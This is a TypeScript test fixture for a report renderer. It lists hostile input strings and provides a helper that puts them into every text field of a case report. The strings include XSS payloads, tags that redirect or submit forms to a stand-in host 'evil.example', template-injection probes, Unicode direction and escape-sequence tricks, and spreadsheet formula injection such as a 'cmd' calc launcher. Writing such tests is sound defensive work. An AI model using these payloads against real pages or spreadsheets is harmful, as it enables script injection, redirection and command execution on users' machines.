/** @file Texts that want to be more than text, and a report that carries one in every field. */
import type { CaseReport } from '../../src/main/report/caseReport.ts';

export const hostileTexts = [
  '<script>window.pwned = 1</script>',
  '</script></style></title><script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '"><svg onload=window.pwned=1>',
  "' onmouseover='window.pwned = 1",
  '<!-- <b> --!> ]]> <![CDATA[ <?xml ?>',
  '&lt;b&gt; &amp;lt; &#60;b&#62; &#x3c',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><base href=//evil.example><link rel=stylesheet href=//evil.example/x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '</pre></td></table></main><form action=https://evil.example><input name=q>',
  '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
  '`${7*7}` {{7*7}} <%= 7*7 %> $& $1 $$',
  'access\u202etxt.exe\u202c \u2066isolated\u2069 \u061c\u200e\u200f',
  'zero\u200bwidth\u200d\u2060\ufeff\u00ad\u034f\u3164\u2800 tag\u{e0041} vs\ufe0f\u{e0100}',
  'esc \u001b[2J\u001b]0;title\u0007 nul \u0000 del \u007f c1 \u0085\u009b lines \r\n\v\f\u2028\u2029',
  'lone \ud83d high, \ude00 low, pair 😀, noncharacter \uffff',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '  \u00a0=HYPERLINK("https://evil.example","x")',
  '＝1＋1',
  'x;=HYPERLINK("https://evil.example";"x");"=1+1"; \'@x',
  '"quoted","cells"\r\n"=second","row"',
];

/** Every text of `report` replaced by `textFor(path)`; what is a choice of ours (a verdict, a state, the zone) stays. */
export function withTexts(report: CaseReport, textFor: (path: string) => string): CaseReport {
  const ours =
    /^(zone|state|reason|severity|value|kind|detector|reading|caseId|appVersion|format|file|sha256|attackNotice|key|subject|action|id)$/;
  const replace = (value: unknown, path: string): unknown => {
    if (typeof value === 'string') return textFor(path);
    if (Array.isArray(value)) return value.map((item, index) => replace(item, `${path}.${index}`));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, item]) => [key, ours.test(key) ? item : replace(item, `${path}.${key}`)]),
    );
  };
  return replace(report, 'report') as CaseReport;
}
